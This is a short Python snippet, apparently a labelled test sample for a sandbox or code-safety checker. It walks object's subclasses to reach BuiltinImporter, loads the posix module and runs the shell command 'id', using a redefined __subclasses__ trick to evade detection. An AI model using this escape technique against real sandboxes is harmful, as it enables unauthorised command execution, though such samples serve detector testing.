# HARM: shell command via BuiltinImporter | TRICK: Base defines its own __subclasses__ (def in class body) returning [object]; walk loop var then is object
class Base:
    def __subclasses__():
        return [object]
class A(Base): pass
for top in Base.__subclasses__():
    for k in top.__subclasses__():
        if k.__name__ == 'BuiltinImporter':
            k.load_module('posix').system('id')
